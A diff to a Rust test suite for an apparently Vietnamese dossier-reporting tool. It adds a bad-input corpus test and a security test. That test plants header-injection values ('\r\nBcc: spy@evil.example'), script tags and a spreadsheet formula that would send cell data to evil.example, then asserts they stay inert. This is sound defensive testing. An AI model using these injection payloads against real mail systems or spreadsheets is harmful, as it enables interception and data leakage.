@@ -9,7 +9,7 @@ use thidua::ingest::{self, Dataset, Severity};
 use thidua::pipeline::{self, Location, Period, RunContext, Source};
 use thidua::pull::Fetched;
 
-use crate::common::project;
+use crate::common::{files_under, project};
 
 /// Runs the tiny fixture with the drop folder holding only `name` with `bytes`.
 fn run_with(name: &str, bytes: &[u8]) -> anyhow::Error {
@@ -26,20 +26,13 @@ fn run_with(name: &str, bytes: &[u8]) -> anyhow::Error {
     assert_eq!(thidua::outcome::exit_code(&err), std::process::ExitCode::from(4), "{err:#}");
     assert!(!dir.path().join("output").exists(), "no partial output");
     assert!(!dir.path().join("store/dossiers").exists(), "no table stored");
+    assert!(files_under(&dir.path().join("store")).iter().all(|p| p.extension().is_none_or(|e| e != "parquet")));
     err
 }
 
 fn assert_names(err: &anyhow::Error, file: &str, reason: &str) {
     let shown = format!("{err:#}");
     assert!(shown.contains(file) && shown.contains(reason), "{shown}");
-}
-
-#[test]
-fn truncated_xlsx() {
-    let good =
-        std::fs::read(crate::common::repo().join("samples/gieng-day-2024/sang-kien/sang-kien-2024.xlsx")).unwrap();
-    let err = run_with("ho-so.xlsx", &good[..good.len() / 2]);
-    assert_names(&err, "drop/2024-09/ho-so.xlsx", "không mở được tệp Excel");
 }
 
 #[test]
@@ -61,26 +54,6 @@ fn xlsx_without_a_known_header() {
     }
     let err = run_with("bang-luong.xlsx", &wb.save_to_buffer().unwrap());
     assert_names(&err, "bang-luong.xlsx", "không tìm thấy dòng tiêu đề cột");
-}
-
-#[test]
-fn csv_missing_a_required_column() {
-    let err = run_with("ho-so.csv", "MaHoSo,DonViXuLy,NgayHenTra\nHS1,Tư pháp,06/09/2024 17:00:00\n".as_bytes());
-    assert_names(&err, "ho-so.csv", "thiếu cột bắt buộc: received_at (\"NgayTiepNhan\" / \"Ngày tiếp nhận\")");
-}
-
-#[test]
-fn json_that_is_not_records() {
-    let err = run_with("ho-so.json", br#"{"total": 3}"#);
-    assert_names(&err, "ho-so.json", "JSON phải là một mảng bản ghi");
-    let err = run_with("ho-so.json", b"[{\"MaHoSo\": ");
-    assert_names(&err, "ho-so.json", "JSON không hợp lệ");
-}
-
-#[test]
-fn a_file_of_unknown_format() {
-    let err = run_with("bao-cao.pdf", b"%PDF-1.7");
-    assert_names(&err, "bao-cao.pdf", "không nhận ra định dạng");
 }
 
 fn fetched(name: &str, bytes: &[u8]) -> Fetched {
@@ -128,4 +101,196 @@ fn bad_rows_become_findings_with_file_and_row() {
     assert_eq!(find("Giá trị không hợp lệ ở cột status").examples[0].detail, "Hoàn tất?");
     assert_eq!(find("Kênh thực hiện ngoài 1, 2, 3").examples[0].row, 4);
     assert!(got.findings.iter().all(|f| f.examples.iter().all(|e| e.file == "ho-so.csv")));
+}
+
+/// One case of `tests/fixtures/bad/expectations.toml`.
+#[derive(serde::Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Case {
+    file: String,
+    why: String,
+    expect: String,
+    message: Option<String>,
+    rows: Option<usize>,
+    encoding: Option<String>,
+    #[serde(default)]
+    units: Vec<String>,
+    #[serde(default)]
+    findings: Vec<ExpectedFinding>,
+}
+
+#[derive(serde::Deserialize)]
+#[serde(deny_unknown_fields)]
+struct ExpectedFinding {
+    rule: String,
+    row: u32,
+    value: Option<String>,
+}
+
+fn ingest_alone(name: &str, bytes: &[u8]) -> anyhow::Result<ingest::Ingested> {
+    let dir = project("tiny");
+    let config = load_config(&dir.path().join("config/thidua.toml")).unwrap();
+    let ctx = ingest::Context {
+        registry: &config.registry,
+        period: Period::new(2024, 9).unwrap(),
+        now: chrono::NaiveDate::from_ymd_opt(2024, 10, 5).unwrap().and_hms_opt(8, 0, 0).unwrap(),
+    };
+    ingest::ingest(&[fetched(name, bytes)], &ctx)
+}
+
+/// Every file of the bad-input corpus gives the error or the findings its table says.
+#[test]
+fn the_bad_input_corpus() {
+    let folder = crate::common::repo().join("tests/fixtures/bad");
+    #[derive(serde::Deserialize)]
+    struct Table {
+        case: Vec<Case>,
+    }
+    let table: Table = toml::from_str(&std::fs::read_to_string(folder.join("expectations.toml")).unwrap()).unwrap();
+    assert!(table.case.len() >= 18, "{} cases", table.case.len());
+    let mut failures = Vec::new();
+    for case in &table.case {
+        let bytes = std::fs::read(folder.join(&case.file)).unwrap_or_else(|e| panic!("{}: {e}", case.file));
+        let why = format!("{} ({})", case.file, case.why);
+        match case.expect.as_str() {
+            "error" => {
+                let err = run_with(&case.file, &bytes);
+                let shown = format!("{err:#}");
+                let reason = case.message.as_deref().expect("an error case names its message");
+                if !(shown.contains(&format!("drop/2024-09/{}", case.file)) && shown.contains(reason)) {
+                    failures.push(format!("{why}: expected {reason:?}, got {shown}"));
+                }
+            }
+            "ok" => {
+                let got = match ingest_alone(&case.file, &bytes) {
+                    Ok(got) => got,
+                    Err(e) => {
+                        failures.push(format!("{why}: {e:#}"));
+                        continue;
+                    }
+                };
+                let rows = got.table(Dataset::Dossiers).map_or(0, |t| t.height());
+                if Some(rows) != case.rows {
+                    failures.push(format!("{why}: {rows} rows kept, expected {:?}", case.rows));
+                }
+                let encoding = got.files[0].encoding.map(|e| e.label().to_string());
+                if encoding != case.encoding {
+                    failures.push(format!("{why}: encoding {encoding:?}, expected {:?}", case.encoding));
+                }
+                if !case.units.is_empty() {
+                    let table = got.table(Dataset::Dossiers).unwrap();
+                    let units: Vec<String> = table
+                        .column("unit_code")
+                        .unwrap()
+                        .str()
+                        .unwrap()
+                        .iter()
+                        .map(|u| u.unwrap_or("?").to_string())
+                        .collect();
+                    if units != case.units {
+                        failures.push(format!("{why}: units {units:?}, expected {:?}", case.units));
+                    }
+                }
+                for f in &case.findings {
+                    let hit = got.findings.iter().any(|g| {
+                        g.rule.starts_with(&f.rule)
+                            && g.examples.iter().any(|e| {
+                                e.file == case.file && e.row == f.row && f.value.as_ref().is_none_or(|v| e.detail == *v)
+                            })
+                    });
+                    if !hit {
+                        failures.push(format!(
+                            "{why}: no finding {:?} at row {} {:?}; got {:#?}",
+                            f.rule, f.row, f.value, got.findings
+                        ));
+                    }
+                }
+            }
+            other => panic!("{why}: unknown expectation {other:?}"),
+        }
+    }
+    assert!(failures.is_empty(), "{} of {} cases failed:\n{}", failures.len(), table.case.len(), failures.join("\n"));
+}
+
+/// The sheets' XML of a workbook: (part name, text).
+fn sheet_xml(book: &[u8]) -> Vec<(String, String)> {
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(book)).expect("a workbook opens as a zip");
+    let names: Vec<String> = zip.file_names().filter_map(|n| n.ok().map(|n| n.into_owned())).collect();
+    let mut out = Vec::new();
+    for name in names.into_iter().filter(|n| n.starts_with("xl/worksheets/") && n.ends_with(".xml")) {
+        let mut text = String::new();
+        std::io::Read::read_to_string(&mut zip.by_name(&name).unwrap(), &mut text).unwrap();
+        out.push((name, text));
+    }
+    assert!(!out.is_empty(), "a workbook has sheets");
+    out
+}
+
+/// Formulas, HTML, a script and CR/LF from an export, and CR/LF in the names the
+/// configuration gives to the ward and a unit's head: every workbook cell stays text (no
+/// `<f>` element in any sheet), every e-mail body escapes the HTML, and no header gains a
+/// line (no Bcc appears, one To per message).
+#[test]
+fn formulas_html_and_line_breaks_stay_inert() {
+    let dir = project("tiny");
+    let bad = crate::common::repo().join("tests/fixtures/bad/cong-thuc-va-html.csv");
+    std::fs::copy(bad, dir.path().join("drop/2024-09/cong-thuc-va-html.csv")).unwrap();
+    let settings = dir.path().join("config/thidua.toml");
+    let text = std::fs::read_to_string(&settings).unwrap();
+    std::fs::write(
+        &settings,
+        text.replace("short_name = \"Thử Nghiệm\"", "short_name = \"Thử Nghiệm\\r\\nBcc: spy@evil.example\""),
+    )
+    .unwrap();
+    let units = dir.path().join("config/units.toml");
+    let text = std::fs::read_to_string(&units).unwrap();
+    std::fs::write(
+        &units,
+        text.replacen(
+            "head_email = \"a@tiny.example\"",
+            "head_email = \"a@tiny.example\"\nhead = \"Trưởng A\\r\\nBcc: spy@evil.example\"",
+            1,
+        ),
+    )
+    .unwrap();
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_thidua"))
+        .current_dir(dir.path())
+        .args(["run", "monthly", "--period", "2024-09"])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+
+    let mut books = vec![std::fs::read(dir.path().join("output/2024-09/bang-diem-2024-09.xlsx")).unwrap()];
+    let outbox = files_under(&dir.path().join("output/outbox"));
+    assert_eq!(outbox.len(), 3);
+    let mut scripts_escaped = 0;
+    for eml in &outbox {
+        let raw = std::fs::read_to_string(eml).unwrap();
+        let headers = crate::common::mail_headers(&raw);
+        assert!(!headers.iter().any(|(k, _)| k.eq_ignore_ascii_case("bcc")), "{eml:?}: {headers:?}");
+        assert_eq!(headers.iter().filter(|(k, _)| k.eq_ignore_ascii_case("to")).count(), 1, "{headers:?}");
+        assert!(headers.iter().all(|(k, v)| !k.contains(' ') && !v.contains('\r') && !v.contains('\n')));
+        for (ctype, body) in crate::common::mime_parts(&raw) {
+            let body_text = String::from_utf8_lossy(&body).to_lowercase();
+            if ctype.starts_with("text/html") {
+                assert!(!body_text.contains("<script") && !body_text.contains("<b onmouseover"), "{eml:?}");
+                scripts_escaped += body_text.matches("&lt;script&gt;").count();
+            } else if !ctype.starts_with("text/") {
+                books.push(body);
+            }
+        }
+    }
+    assert!(scripts_escaped > 0, "unit A's card lists the overdue dossier whose procedure is a <script>");
+    assert_eq!(books.len(), 1 + 3, "the workbook on disk and one attached to each message");
+    for book in &books {
+        for (part, xml) in sheet_xml(book) {
+            assert!(!xml.contains("<f>") && !xml.contains("<f "), "a formula in {part}");
+        }
+    }
+    let overdue =
+        crate::common::Sheet::read(&dir.path().join("output/2024-09/bang-diem-2024-09.xlsx"), "Hồ sơ quá hạn", 3);
+    let ids: Vec<String> = overdue.records().iter().map(|r| r["Mã hồ sơ"].to_string()).collect();
+    for id in ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")", "+HS-I2", "-HS-I3"] {
+        assert!(ids.iter().any(|i| i == id), "{id} written as text: {ids:?}");
+    }
 }
